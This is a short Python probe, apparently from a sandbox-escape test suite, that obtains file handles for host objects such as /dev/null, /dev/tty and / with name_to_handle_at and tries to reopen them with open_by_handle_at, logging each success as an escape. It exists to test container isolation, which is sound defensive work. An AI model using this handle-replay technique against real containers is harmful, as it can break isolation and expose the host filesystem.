"""Obtain file handles of host filesystem objects (/dev/null on the host's devtmpfs, /dev/tty) with name_to_handle_at (documented as denied) and replay them with open_by_handle_at."""
import ctypes
import os

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import struct  # noqa: E402

SYS_name_to_handle_at, SYS_open_by_handle_at = 303, 304
AT_FDCWD = -100


def main():
    for path in ("/dev/null", "/dev/tty", "/dev/urandom", "/", "/proc/self", "/sys/kernel"):
        h = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + b"\0" * 120)
        mount_id = ctypes.c_int(0)
        r, e = sysc(SYS_name_to_handle_at, AT_FDCWD, ctypes.c_char_p(path.encode()), h, ctypes.byref(mount_id), 0)
        if r != 0:
            NOTES.append("name_to_handle_at(%s): %s" % (path, en(e)))
            continue
        nbytes, htype = struct.unpack("Ii", h.raw[:8])
        host = path.startswith("/dev/") and path != "/dev/shm"
        msg = "name_to_handle_at(%s) returned a type-%d handle %s (mount id %d)" % (
            path, htype, h.raw[8:8 + nbytes].hex(), mount_id.value)
        try:
            mfd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            r2, e2 = sysc(SYS_open_by_handle_at, mfd, h, os.O_RDONLY)
            os.close(mfd)
            if r2 >= 0:
                ESCAPES.append(msg + " and open_by_handle_at reopened it")
                os.close(r2)
                continue
            msg += "; replay: %s" % en(e2)
        except OSError:
            pass
        if host:
            ESCAPES.append(msg + " (a host filesystem object)")
        else:
            NOTES.append(msg)


if __name__ == "__main__":
    finish(main)
